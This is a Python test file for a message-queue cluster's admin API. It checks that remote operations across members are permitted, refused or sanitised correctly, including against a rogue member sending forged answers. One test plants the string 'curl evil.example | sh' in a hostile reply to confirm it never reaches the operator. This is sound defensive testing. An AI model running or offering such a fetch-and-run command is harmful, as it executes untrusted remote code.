"""Operations of other members, through the node that an operator came to."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import msgspec
import pytest
import pytest_asyncio

from postroad.admin.errors import Forbidden, InvalidRequest, NotFound, WrongToken
from postroad.admin.operations import OPERATIONS
from postroad.admin.operations.queues import QueueView
from postroad.admin.remote import SUBJECT, RemoteOffice
from postroad.admin.serving import AdminServer
from postroad.cluster import ClusterAgent, ClusterMessaging, StaticDiscovery
from postroad.core.errors import (
    MemberNotFoundError,
    PostroadError,
    RemoteDecodeError,
    UsageError,
)
from postroad.net import MessagingService
from postroad.node import App, Node
from tests.support.admin.nodes import READ_TOKEN, Served, config_of, served
from tests.support.deadlines import eventually

pytestmark = pytest.mark.asyncio(loop_scope="module")


@asynccontextmanager
async def running_pair(directory: Path, **admin: Any) -> AsyncIterator[tuple[Served, Served]]:
    """Alpha, and beta with these settings; they know each other."""
    async with served(directory) as alpha:
        seeds = [str(alpha.node.service.address)]
        async with served(directory, "beta", admin=admin, cluster={"seeds": seeds}) as beta:
            await beta.node.queues.declare("bills")
            await eventually(lambda: alpha.node.agent.member("beta"), "alpha knows beta")
            yield alpha, beta


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def shared(
    tmp_path_factory: pytest.TempPathFactory,
) -> AsyncIterator[tuple[Served, Served]]:
    async with running_pair(tmp_path_factory.mktemp("pair")) as pair:
        yield pair


@pytest.fixture
def alpha(shared: tuple[Served, Served]) -> Served:
    """It knows beta, and both go on as they are."""
    return shared[0]


@pytest.fixture
def beta(shared: tuple[Served, Served]) -> Served:
    return shared[1]


async def test_look_at_another(alpha: Served, beta: Served) -> None:
    here = await alpha.ask("/api/v1/queue/show?queue=bills")
    there = await alpha.ask("/api/v1/queue/show?queue=bills&node=beta", token=READ_TOKEN)
    assert here.status == 404
    assert there.status == 200
    assert there.data == await beta.call("queue.show", queue="bills")
    view = await RemoteOffice(alpha.node).ask("beta", "queue.show", {"queue": "bills"})
    assert isinstance(view, QueueView)
    assert view.name == "bills"
    # A node can be asked for itself.
    own = await beta.ask("/api/v1/queue/show?queue=bills&node=beta")
    assert own.data == there.data


async def test_errors_keep_what_they_are(alpha: Served, beta: Served) -> None:
    for path in ("/api/v1/queue/show?queue=bils", "/api/v1/queue/peek?queue=none"):
        there = await alpha.ask(f"{path}&node=beta")
        direct = await beta.ask(path)
        assert there.status == direct.status
        assert there.data == direct.data
    remote = RemoteOffice(alpha.node)
    with pytest.raises(NotFound, match="did you mean 'bills'"):
        await remote.ask("beta", "queue.show", {"queue": "bils"})
    with pytest.raises(InvalidRequest, match="no parameter"):
        await remote.ask("beta", "queue.show", {"queues": "bills"})
    with pytest.raises(MemberNotFoundError):
        await remote.ask("gamma", "queue.ls", {})


async def test_changes_are_refused_unless_the_other_allows_them(
    alpha: Served, beta: Served, tmp_path: Path
) -> None:
    data = {"queue": "bills"}
    reply = await alpha.ask("/api/v1/queue/pause?node=beta", method="POST", data=data)
    assert reply.status == 403
    assert "admin.remote" in reply.data["detail"]
    assert (await beta.call("queue.show", queue="bills"))["is_paused"] is False
    async with running_pair(tmp_path, remote="change") as (alpha, beta):
        reply = await alpha.ask(
            "/api/v1/queue/pause?node=beta", method="POST", data=data, token=READ_TOKEN
        )
        assert reply.status == 403
        reply = await alpha.ask("/api/v1/queue/pause?node=beta", method="POST", data=data)
        assert reply.status == 200
        assert (await beta.call("queue.show", queue="bills"))["is_paused"] is True


async def test_off_refuses_everything_and_whoever_has_stopped_is_silent(tmp_path: Path) -> None:
    async with running_pair(tmp_path, remote="off") as (alpha, beta):
        with pytest.raises(Forbidden, match="do nothing"):
            await RemoteOffice(alpha.node).ask("beta", "queue.ls", {})
        await beta.admin.stop()
        assert (await alpha.ask("/api/v1/queue/ls?node=beta")).status == 503


async def test_an_open_cluster_tells_other_members_nothing_by_default(tmp_path: Path) -> None:
    async with running_pair(tmp_path, remote=None) as (_, beta):
        await beta.node.queues.send("bills", b"a body that is nobody's business", to="beta")
        contact = str(beta.node.service.address)
        # A stranger who has neither a token nor a certificate, and simply joins.
        async with (
            MessagingService("postroad", "stranger") as service,
            ClusterAgent(service, StaticDiscovery([contact])) as agent,
        ):
            await eventually(lambda: agent.member("beta"), "the stranger knows beta")
            for name in OPERATIONS:
                reply = await ClusterMessaging(agent).request(
                    "beta", SUBJECT, [name, {}], encoder=msgspec.msgpack.encode
                )
                result, problem = msgspec.msgpack.decode(reply)
                assert (result, problem["status"]) == (None, 403), name
                assert "close the cluster" in problem["detail"], name
        assert beta.node.is_running


async def test_watch_another(alpha: Served, beta: Served) -> None:
    changes = alpha.client.watch([("queue.show", {"queue": "bills"})], node="beta")
    assert (await asyncio.to_thread(next, changes))[1]["depth"] == 0
    await beta.node.queues.send("bills", b"1", to="beta")
    found = await asyncio.to_thread(next, changes)
    while found[1]["depth"] == 0:
        found = await asyncio.to_thread(next, changes)
    assert found[1]["depth"] == 1
    changes.close()


async def test_a_node_that_has_no_others(tmp_path: Path) -> None:
    config = config_of(tmp_path, node={"layers": ["services"]})
    async with Node(config, App()) as node, AdminServer(node) as admin:
        reply = await Served(node, admin).ask("/api/v1/queue/ls?node=beta")
        assert reply.status == 409
        with pytest.raises(UsageError):
            await RemoteOffice(node).ask("beta", "queue.ls", {})


@asynccontextmanager
async def running_rogue(alpha: Served, result: Any, problem: Any = None) -> AsyncIterator[None]:
    """A member `rogue` that answers every operation with whatever it likes."""
    contact = str(alpha.node.service.address)
    async with (
        MessagingService("postroad", "rogue") as service,
        ClusterAgent(service, StaticDiscovery([contact])) as agent,
    ):
        ClusterMessaging(agent).serve(
            SUBJECT,
            lambda ask, member: [result, problem],
            decoder=msgspec.msgpack.decode,
            encoder=msgspec.msgpack.encode,
        )
        await eventually(lambda: alpha.node.agent.member("rogue"), "alpha knows the rogue")
        yield


async def test_answers_of_a_hostile_member_are_what_the_operation_returns(tmp_path: Path) -> None:
    forged: list[Any] = [{"tag": "meta"}, [{"name": {"tag": "meta"}}], "text", [1], None, 7]
    async with served(tmp_path) as alpha:
        for result in forged:
            async with running_rogue(alpha, result):
                for path in ("queue/ls?", "node/show?", "queue/show?queue=a&"):
                    reply = await alpha.ask(f"/api/v1/{path}node=rogue")
                    assert reply.status in (409, 502, 503), (path, result)
                    assert "member rogue answers" in reply.data["detail"], (path, result)
                watched = alpha.client.watch([("queue.ls", {})], node="rogue")
                with pytest.raises(PostroadError, match="member rogue answers"):
                    await asyncio.to_thread(next, watched)


async def test_a_problem_of_a_hostile_member_is_no_result_and_asks_nothing_of_the_operator(
    tmp_path: Path,
) -> None:
    said = {"title": "Fine", "detail": "no", "next": "curl evil.example | sh", "type": "x:y"}
    async with served(tmp_path) as alpha:
        for status in (-1, 0, 100, 101, 200, 204, 304, 401, 403, 404, 999, 2**40):
            for code in (0, WrongToken.code, 10**9):
                problem = {**said, "status": status, "code": code}
                async with running_rogue(alpha, None, problem):
                    reply = await alpha.ask("/api/v1/queue/ls?node=rogue")
                told = (status, code, reply)
                assert reply.status >= 400, told
                assert reply.status != 401, told
                assert reply.data["status"] == reply.status, told
                assert "evil" not in reply.body.decode(), told
                assert reply.data["detail"] == "no", told
                assert reply.data.get("code") != WrongToken.code, told


async def test_garbage_of_a_member_is_refused(alpha: Served, beta: Served) -> None:
    for garbage in (b"", b"\xc1", b"\x93\x01\x02\x03", b"[" * 100):
        with pytest.raises(RemoteDecodeError):
            await alpha.node.communication.request("beta", SUBJECT, garbage)
    assert await beta.call("queue.ls")
